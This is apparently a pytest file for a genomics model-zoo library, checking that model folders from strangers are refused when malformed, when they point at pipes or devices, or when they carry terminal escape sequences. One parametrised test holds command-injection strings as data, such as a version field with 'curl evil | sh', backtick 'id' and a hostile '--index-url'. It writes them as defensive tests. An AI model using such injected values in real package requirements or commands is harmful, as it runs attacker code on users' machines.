"""Model folders that a stranger made: what cannot be right is not used, and what they hold reaches no terminal raw."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import time

import numpy as np
import pytest
import torch
from safetensors.torch import load as load_tensors
from safetensors.torch import save as save_tensors

import zoo
from zoo.cli.main import main
from zoo.errors import ConfigError, DataError, HubError
from zoo.files.locations import core_file
from zoo.hub import manifest
from zoo.training.model_and_data import open_evaluated

TOLERANCE = '{"rtol":1e-4,"atol":1e-5}'


def sign(folder, **changes):
    """Write the manifest of whatever the folder holds, as a stranger's program would."""
    files = []
    for path in sorted(p for p in folder.rglob("*") if p.is_file() and p.name != "manifest.json"):
        raw = path.read_bytes()
        name = path.relative_to(folder).as_posix()
        files.append(
            {"path": name, "sha256": hashlib.sha256(raw).hexdigest(), "size": len(raw)} | changes.get(name, {})
        )
    (folder / "manifest.json").write_text(json.dumps({"files": files, "format": 1}))


@pytest.fixture
def make(tmp_path):
    """The shipped model with some of its content changed, signed again."""

    def hostile(config=None, weights=None, golden=None, tolerance=TOLERANCE, raw=(), name="m"):
        folder = tmp_path / name
        folder.mkdir()
        for path in core_file("weights/ctcf-motif-cnn").iterdir():
            shutil.copyfile(path, folder / path.name)
        if config:
            plain = json.loads((folder / "config.json").read_text())
            plain.update(config)
            (folder / "config.json").write_text(json.dumps(plain))
        for file, change in (("model", weights), ("golden", golden)):
            path = folder / f"{file}.safetensors"
            if change:
                tensors = load_tensors(path.read_bytes())
                tensors = change(tensors) or tensors
                path.write_bytes(save_tensors(tensors, {"tolerance": tolerance}))
        if tolerance != TOLERANCE and not golden:
            path = folder / "golden.safetensors"
            path.write_bytes(save_tensors(load_tensors(path.read_bytes()), {"tolerance": tolerance}))
        for file, content in dict(raw).items():
            (folder / file).write_bytes(content)
        sign(folder)
        return folder

    return hostile


@pytest.fixture
def sequences(tmp_path):
    letters = "".join(np.random.default_rng(0).choice(list("ACGT"), 200))
    (tmp_path / "x.fa").write_text(f">one\n{letters}\n>two\n{'ACGT' * 50}\n")
    return str(tmp_path / "x.fa")


def fill(value):
    def change(tensors):
        next(iter(tensors.values())).flatten()[:1] = value

    return change


def scale(factor):
    return lambda tensors: {k: x * factor if x.is_floating_point() else x for k, x in tensors.items()}


def one_sentence(capsys, *args, code=1):
    assert main([*args]) == code
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert err.startswith("zoo: error: ")
    return err


# Models that cannot be right.


@pytest.mark.parametrize("value", [float("nan"), float("inf"), -float("inf")])
def test_weights_that_are_not_finite_are_refused_by_the_tensor_s_name(value, make, sequences, capsys):
    folder = make(weights=fill(value))
    err = one_sentence(capsys, "predict", str(folder), "--sequences", sequences)
    assert "holds NaN or infinity (1 of" in err
    assert "tensor '" in err


@pytest.mark.parametrize("length", [50_000, 100, 201])
def test_an_input_length_that_is_not_the_weights_is_refused(length, make):
    with pytest.raises(HubError, match=f"made for windows of 200 bp, but .* input_length {length:,}"):
        zoo.load(str(make(config={"input_length": length})))


SPOILT_GOLDEN = {
    "empty": (lambda t: {k: x[:0] for k, x in t.items()}, "examples, which must be 1 to 8"),
    "nothing": (lambda t: {"x": torch.zeros(3)}, "holds no codes"),
    "no outputs": (lambda t: {"input/codes": t["input/codes"]}, "not the same outputs"),
    "codes of 200": (lambda t: {**t, "input/codes": torch.full_like(t["input/codes"], 200)}, "from 0 to 4"),
    "codes below 0": (lambda t: {**t, "input/codes": t["input/codes"].long() - 5}, "from 0 to 4"),
    "codes of real numbers": (lambda t: {**t, "input/codes": t["input/codes"].float()}, "from 0 to 4"),
    "codes of one axis": (lambda t: {**t, "input/codes": t["input/codes"][0, :8].clone()}, "has not the axes NT"),
    "a number alone": (lambda t: {**t, "input/codes": torch.tensor(1, dtype=torch.uint8)}, "examples"),
    "other rows": (lambda t: {**t, "output/binding": t["output/binding"][:3].clone()}, "not of the 8 examples"),
    "NaN": (lambda t: {**t, "output/binding": t["output/binding"] * float("nan")}, "NaN or infinity"),
    "many": (lambda t: {k: x.repeat(9, 1) for k, x in t.items()}, "examples, which must be 1 to 8"),
    "another input": (lambda t: {**t, "input/signal": torch.zeros(8, 3)}, "does not read"),
}


@pytest.mark.parametrize("fault", SPOILT_GOLDEN)
def test_spoilt_golden_outputs_are_a_sentence(fault, make, capsys):
    change, message = SPOILT_GOLDEN[fault]
    assert message in one_sentence(capsys, "pull", str(make(golden=change)), "--check")


@pytest.mark.parametrize(
    "tolerance",
    [
        '{"rtol":1e999,"atol":Infinity}', '{"rtol":0.5,"atol":0}', '{"rtol":0,"atol":1}', '{"rtol":-1,"atol":0}',
        '{"rtol":NaN,"atol":0}', '{"rtol":0}', "{}", "[]", "null", "nonsense", '{"rtol":0,"rtol":0.1,"atol":0}',
        '{"rtol":"x","atol":0}', "[" * 10_000,
    ],
)  # fmt: skip
def test_a_tolerance_that_compares_nothing_is_refused(tolerance, make, capsys):
    folder = make(weights=scale(0.5), tolerance=tolerance)
    assert "golden.safetensors" in one_sentence(capsys, "pull", str(folder), "--check")


def test_other_weights_fail_the_golden_outputs(make, capsys):
    assert "differs from its golden outputs" in one_sentence(capsys, "pull", str(make(weights=scale(0.5))), "--check")


@pytest.fixture
def overflowing(make):
    """Weights that are finite, and predictions that are not."""
    return make(weights=scale(1e30))


def test_a_prediction_that_is_not_finite_is_not_ok(overflowing, sequences):
    table = zoo.predict(str(overflowing), sequences=["ACGT" * 50], output="CTCF:raw")
    assert table["status"].tolist() == ["not_finite"]
    assert np.isnan(table.iloc[0, -1])


def test_no_score_effect_or_attribution_of_it_is_ok(overflowing, tmp_path, capsys):
    from zoo.effects.variants.epistasis import epistasis

    bases = "".join(np.random.default_rng(1).choice(list("ACGT"), 2_000))
    fasta = tmp_path / "g.fa"
    fasta.write_text(f">chr1\n{bases}\n")
    alt = {"A": "C", "C": "G", "G": "T", "T": "A"}
    typed = [f"chr1:{p}:{bases[p - 1]}>{alt[bases[p - 1]]}" for p in (1001, 1011)]
    typed.append(f"chr1:1020:{bases[1019:1023]}>{bases[1019]}")
    model = zoo.load(str(overflowing))
    scored = zoo.score_variants(model, typed, fasta=fasta, output="CTCF:raw")
    assert scored["status"].tolist() == ["not_finite"] * 3
    for one in typed:
        assert zoo.score_variants(model, [one], fasta=fasta, output="CTCF:raw")["status"].tolist() == ["not_finite"]
    assert epistasis(model, typed[:2], fasta=fasta, output="CTCF:raw", shuffles=0)["status"].tolist() == ["not_finite"]
    arguments = ["--model", str(overflowing), "--output", "CTCF:raw", "--fasta", str(fasta)]
    assert "no effect is finite" in one_sentence(capsys, "mutate", "chr1:1,001-1,010", *arguments)
    with pytest.raises(DataError, match="no row could be explained: 1 not_finite"):
        zoo.attribute(model, ("chr1", 900, 1100), fasta=fasta, output="CTCF:raw")


def test_haplotypes_of_it_are_not_ok(overflowing, tmp_path):
    from zoo.effects.variants.job import score_haplotypes

    bases = "ACGT" * 500
    (tmp_path / "g.fa").write_text(f">chr1\n{bases}\n")
    (tmp_path / "x.vcf").write_text(
        "##fileformat=VCFv4.3\n##contig=<ID=chr1,length=2000>\n"
        '##FORMAT=<ID=GT,Number=1,Type=String,Description="Genotype">\n'
        "#CHROM\tPOS\tID\tREF\tALT\tQUAL\tFILTER\tINFO\tFORMAT\ts\n"
        f"chr1\t1001\t.\t{bases[1000]}\tT\t.\t.\t.\tGT\t1|0\n"
    )
    table = score_haplotypes(
        str(overflowing), tmp_path / "x.vcf", fasta=tmp_path / "g.fa", sample="s", output="CTCF:raw"
    )
    assert table["status"].tolist() == ["not_finite"]


# What a card holds, and what reaches the terminal.

EVIL = "\x1b[31mEVIL\x1b]0;title\x07\x9b2J\u202egnp.exe\rsafe\nline two\u2028three"
RAW = set("\x1b\x07\x9b\u202e\r\u2028")


@pytest.mark.parametrize(
    "args",
    [["show"], ["show", "--card"], ["show", "--json"], ["pull", "--check"], ["predict"], ["evaluate"]],
    ids=" ".join,
)
def test_no_command_prints_a_stranger_s_controls(args, make, sequences, capsys):
    folder = make(
        config=dict.fromkeys(("name", "description", "task", "licence", "citation"), EVIL),
        raw={"README.md": EVIL.encode("utf-8", "surrogatepass") + b"\xff\xfe\x00"},
    )
    command, *rest = args
    main([command, str(folder), *rest, *(["--sequences", sequences, "-o", "-"] if command == "predict" else [])])
    printed = capsys.readouterr()
    assert not RAW & set(printed.out + printed.err), sorted(RAW & set(printed.out + printed.err))
    if command == "predict":
        lines = printed.out.splitlines()
        header = next(i for i, line in enumerate(lines) if line.startswith("name\t"))
        assert all(line.startswith("##") for line in lines[:header])
        assert [line.split("\t")[2] for line in lines[header + 1 :]] == ["ok", "ok"]


def test_a_file_keeps_the_name_on_one_comment_line(make, sequences, tmp_path):
    folder = make(config={"name": EVIL})
    assert main(["predict", str(folder), "--sequences", sequences, "-o", str(tmp_path / "out.tsv")]) == 0
    raw = (tmp_path / "out.tsv").read_bytes()
    lines = raw.decode().split("\n")
    assert [line[:2] for line in lines[:3]] == ["##"] * 3
    assert b"\r" not in raw


def test_an_annotated_vcf_keeps_the_name_on_one_line(make, tmp_path):
    bases = "ACGT" * 500
    (tmp_path / "g.fa").write_text(f">chr1\n{bases}\n")
    (tmp_path / "x.vcf").write_text(
        "##fileformat=VCFv4.3\n##contig=<ID=chr1,length=2000>\n#CHROM\tPOS\tID\tREF\tALT\tQUAL\tFILTER\tINFO\n"
        f"chr1\t1001\t.\t{bases[1000]}\tT\t.\t.\t.\n"
    )
    folder, out = make(config={"name": EVIL}), tmp_path / "out.vcf"
    where = ["--model", str(folder), "--fasta", str(tmp_path / "g.fa"), "-o", str(out)]
    assert main(["score", str(tmp_path / "x.vcf"), *where]) == 0
    lines = out.read_text().split("\n")
    assert all(line.startswith("#") for line in lines[:-2])
    assert not RAW & set(out.read_bytes().decode())


def test_an_error_that_quotes_a_stranger_is_clean_and_short(make, capsys):
    folder = make(config={"encoder": {"name": EVIL * 1000}})
    err = one_sentence(capsys, "pull", str(folder), "--check")
    assert not RAW & set(err)
    assert len(err) < 5000


@pytest.mark.parametrize(
    "row",
    [
        {"predictor": "x", "metric": "auroc", "value": 0.9, "low": 0.8, "n": 10, "split": "test", "task": "t"},
        {}, {"metric": "auroc"}, {"metric": "auroc", "value": "high"}, {"metric": 7, "value": 0.5, "n": -3},
        {"predictor": ["x"], "metric": {"a": 1}, "value": 1e300, "n": 2, "n_positive": 3},
        {"predictor": EVIL, "metric": EVIL, "head": EVIL, "task": EVIL, "value": 0.5, "n": 4, "note": EVIL},
    ],
)  # fmt: skip
def test_metrics_of_any_kind_are_shown(row, make, capsys):
    known = json.loads((core_file("weights/ctcf-motif-cnn") / "config.json").read_text())["metrics"]
    for metrics in ([row], [*known, row], [row, row]):
        folder = make(config={"metrics": metrics}, name=f"m{len(metrics)}")
        assert main(["show", str(folder)]) == 0, capsys.readouterr().err
        assert not RAW & set(capsys.readouterr().out)


@pytest.mark.parametrize(
    "text",
    [
        '{"format": 1, "name": "a", "name": "b"}', '{"format": 1, "x": NaN}', '{"format": 1, "x": 1e999}',
        '{"format": 1, "name": "\\ud800"}', '{"format": 1, "name": "a\\u0000b"}', '{"a":' * 5_000, "[" * 200_000,
        '{"format": 1, "x": ' + "[" * 70 + "]" * 70 + "}", '{"format": 1, "x": ' + "9" * 10_000 + "}", "\xff", "",
    ],
)  # fmt: skip
def test_json_that_means_two_things_or_nothing_is_refused(text, make, capsys):
    folder = make(raw={"config.json": text.encode("latin-1")})
    assert "config.json" in one_sentence(capsys, "show", str(folder))


def test_a_manifest_with_a_key_twice_is_refused(make):
    folder = make()
    text = (folder / "manifest.json").read_text()
    (folder / "manifest.json").write_text(text.replace('"format": 1', '"format": 1, "format": 1'))
    with pytest.raises(HubError, match="'format' stands twice"):
        zoo.load(str(folder))


def test_a_package_that_is_missing_is_the_publisher_s_word(make):
    with pytest.raises(HubError, match=r"the publisher says: pip install 'zoo-nonesuch~=1\.0'"):
        zoo.load(str(make(config={"requires": {"zoo-nonesuch": "~=1.0"}})))


@pytest.mark.parametrize(
    ("name", "versions"),
    [
        ("zoo-nonesuch", "===1'; curl evil | sh; '"), ("zoo-nonesuch", "===`id`"), ("zoo-nonesuch", "@ https://evil/x"),
        ("zoo-nonesuch[all]", ">1"), ("zoo-nonesuch", ">1; python_version>'3'"), ("--index-url=http://evil x", ""),
        ("zoo-nonesuch\x1b[2J", ">1"),
    ],
)  # fmt: skip
def test_more_than_a_package_and_its_versions_is_never_advised(name, versions, make):
    with pytest.raises(HubError) as caught:
        zoo.load(str(make(config={"requires": {name: versions}})))
    assert "pip install" not in str(caught.value)


# What a card may open.


@pytest.mark.parametrize("extra", [None, "checkpoints", "model"])
def test_no_file_that_a_published_card_names_is_opened(extra, make, tmp_path, capsys):
    secret = tmp_path / "secret.tsv"
    secret.write_text("sequence\tlabel\nACGT\t1\n")
    os.mkfifo(tmp_path / "pipe")
    for table in ("/dev/zero", str(secret), str(tmp_path / "pipe")):
        data = {"name": "table", "table": table, "header": False, "sequence": "1"}
        folder = make(config={"data": {"config": data, **data}}, name=f"m{len(table)}")
        if extra:
            (folder / extra).mkdir()
        begun = time.monotonic()
        err = one_sentence(capsys, "evaluate", str(folder))
        assert "no" in err
        assert "give --config RUN/config.json" in err
        assert "sequence" not in err
        assert time.monotonic() - begun < 5


def test_the_user_s_own_word_is_taken(make, tmp_path):
    folder = make(config={"data": {"config": {"name": "table", "table": "/dev/zero"}}})
    opened = open_evaluated(str(folder), data=["name=simulated", "n_test=4"])
    assert len(opened.source.examples("test")) == 4
    (tmp_path / "own.json").write_text(json.dumps({"data": {"name": "simulated", "n_test": 6}}))
    assert len(open_evaluated(str(folder), config=tmp_path / "own.json").source.examples("test")) == 6


def test_simulated_data_of_a_card_are_made_within_bounds(make):
    small = make(config={"data": {"config": {"name": "simulated", "n_test": 4}}}, name="small")
    assert len(open_evaluated(str(small)).source.examples("test")) == 4
    large = make(config={"data": {"config": {"name": "simulated", "n_test": 10**9}}}, name="large")
    with pytest.raises(ConfigError, match="more simulated data than are made on a stranger's word"):
        open_evaluated(str(large))


# What is read, and how much of it.


def put_pipe(path):
    path.unlink()
    os.mkfifo(path)


def put_socket(path):
    path.unlink()
    here = os.open(".", os.O_RDONLY)
    os.chdir(path.parent)  # the path of a socket is short
    try:
        with socket.socket(socket.AF_UNIX) as bound:
            bound.bind(path.name)
    finally:
        os.chdir(here)
        os.close(here)


def put_device(path):
    path.unlink()
    path.symlink_to("/dev/zero")


PUT = {"pipe": put_pipe, "socket": put_socket, "link to a device": put_device}
FILES = ["manifest.json", "config.json", "model.safetensors", "golden.safetensors", "README.md"]


@pytest.mark.parametrize("kind", PUT)
@pytest.mark.parametrize("file", FILES)
def test_what_is_no_plain_file_is_refused_and_not_waited_for(kind, file, make, tmp_path, capsys):
    folder = make()
    root = tmp_path / "hub" / "mine"
    revision = manifest.revision_of(folder)
    shutil.copytree(folder, root / revision)
    (root / "refs").mkdir()
    (root / "refs" / "main").write_text(revision)
    for at in (folder, root / revision):
        PUT[kind](at / file)
    begun = time.monotonic()
    for word in (str(folder), f"file://{root}"):
        one_sentence(capsys, "pull", word)
        one_sentence(capsys, "show", word, "--card")
    assert time.monotonic() - begun < 5


@pytest.mark.parametrize("kind", PUT)
def test_a_ref_that_is_no_plain_file_is_refused(kind, make, tmp_path, capsys):
    folder = make()
    source = zoo.publish(folder, "mine", str(tmp_path / "hub"))
    PUT[kind](tmp_path / "hub" / "mine" / "refs" / "main")
    assert "refs/main" in one_sentence(capsys, "pull", source.partition("@")[0])
    assert main(["pull", source]) == 0


def test_a_copy_stops_at_the_size_that_the_manifest_says(make, tmp_path, capsys):
    folder = make()
    source = zoo.publish(folder, "mine", str(tmp_path / "hub"))
    shipped = tmp_path / "hub" / "mine" / source.partition("@")[2] / "model.safetensors"
    with open(shipped, "r+b") as file:
        file.truncate(1 << 40)  # a hole: it takes no room on the disk, and would as a copy
    begun = time.monotonic()
    assert "larger than" in one_sentence(capsys, "pull", source)
    assert time.monotonic() - begun < 5
    assert list((tmp_path / "cache" / "models").rglob("*.safetensors")) == []


def test_a_revision_whose_bytes_were_changed_is_not_taken(make, tmp_path, capsys):
    source = zoo.publish(make(), "mine", str(tmp_path / "hub"))
    other = make(weights=scale(0.5), name="other")
    home = tmp_path / "hub" / "mine" / source.partition("@")[2]
    for file in FILES:
        shutil.copyfile(other / file, home / file)
    assert "changed after it was published" in one_sentence(capsys, "pull", source)


def test_a_folder_that_changes_while_it_is_read_is_refused(make, monkeypatch):
    from zoo.hub import model_folder

    folder, plain = make(), model_folder.load_bundle

    def load_and_change(*args, **kwargs):
        model = plain(*args, **kwargs)
        raw = (folder / "model.safetensors").read_bytes()
        (folder / "model.safetensors").write_bytes(raw)
        return model

    monkeypatch.setattr(model_folder, "load_bundle", load_and_change)
    with pytest.raises(HubError, match="changed while it was read"):
        zoo.load(str(folder))


def header(tensors, body=b""):
    text = json.dumps(tensors).encode()
    return len(text).to_bytes(8, "little") + text + body


@pytest.mark.parametrize(
    "raw",
    [
        header({"a": {"dtype": "F32", "shape": [1 << 40], "data_offsets": [0, 4]}}, b"\0" * 4),
        header({"a": {"dtype": "F32", "shape": [1 << 62, 1 << 62], "data_offsets": [0, 4]}}, b"\0" * 4),
        header({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 1 << 50]}}, b"\0" * 4),
        header({"a": {"dtype": "F32", "shape": [1], "data_offsets": [4, 0]}}, b"\0" * 4),
        header({"a": {"dtype": "F32", "shape": [-1], "data_offsets": [0, 4]}}, b"\0" * 4),
        header({"a": {"dtype": "nonsense", "shape": [1], "data_offsets": [0, 4]}}, b"\0" * 4),
        (1 << 63).to_bytes(8, "little") + b"{}", b"", b"\0" * 7, (1 << 14).to_bytes(8, "little") + b"[" * (1 << 14),
    ],
)  # fmt: skip
@pytest.mark.parametrize("file", ["model.safetensors", "golden.safetensors"])
def test_headers_that_promise_too_much_are_refused(file, raw, make, capsys):
    assert file in one_sentence(capsys, "pull", str(make(raw={file: raw})), "--check")


@pytest.mark.parametrize("form", ["{}", "./{}", "/{}/{}", "file:///{}/m", "hf://{}/m", "pkg://zoo/{}", "m@{}"])
@pytest.mark.parametrize("command", ["show", "pull"])
def test_names_of_any_length_are_a_sentence(form, command, capsys):
    assert len(one_sentence(capsys, command, form.replace("{}", "x" * 100_000))) < 6_000
